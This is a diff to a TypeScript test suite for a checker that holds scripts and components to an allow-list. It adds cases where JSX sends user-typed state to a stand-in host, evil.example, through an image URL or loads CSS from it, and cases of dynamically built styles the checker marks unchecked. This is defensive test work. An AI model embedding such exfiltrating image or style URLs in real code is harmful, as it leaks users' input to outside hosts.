@@ -187,6 +187,28 @@ describe('a script or component the team allows is held to an allow-list', () =>
       'script',
       'a <link> to evil.example',
     ],
+    // What a reader typed, sent away in an address or a style.
+    [
+      'const [v] = useState(""); <img src={"https://evil.example/l?" + v} />',
+      'script',
+      'a URL to evil.example that the code completes (`src`)',
+    ],
+    [
+      '<div style={{ backgroundImage: "url(https://evil.example/a.png)" }} />',
+      'script',
+      'CSS that loads from evil.example (a style)',
+    ],
+    [
+      'const [v] = useState(""); <div style={{ background: "url(/a?" + v + ")" }} />',
+      'unchecked',
+      'a style the code builds (`background`)',
+    ],
+    [
+      'const r = useRef(); r.current.style.setProperty("--x", String(1))',
+      'unchecked',
+      'a style the code builds (`--x`)',
+    ],
+    ['const s = String(1); <div style={s} />', 'unchecked', 'a style the code computes'],
   ] as const)('%s: %s, %s', async (code, kind, detail) => {
     // A module's imports stand at its top level; the rest in a component.
     const head = /^(import|export) /.test(code)
@@ -204,7 +226,8 @@ describe('a script or component the team allows is held to an allow-list', () =>
       '  useEffect(() => { const t = setTimeout(() => setOpen(false), 100); return () => clearTimeout(t) }, [])',
       '  const rows = (items ?? []).map((item, i) => <li key={item.id}>{i + 1}: {JSON.stringify(item)}</li>)',
       '  return <div className={open ? "a" : "b"} style={{ margin: 0 }}>',
-      '    <img src="/logo.png" alt="" /><a href={href}>More</a><a href={`/guides/${open}`}>Guide</a>',
+      '    <img src="/logo.png" alt="" style={{ width: `${open ? 50 : 100}%`, background: "url(/bg.png)" }} />',
+      '    <a href={href}>More</a><a href={`/guides/${open}`}>Guide</a>',
       '    <ul>{rows}</ul>',
       '  </div>',
       '}',
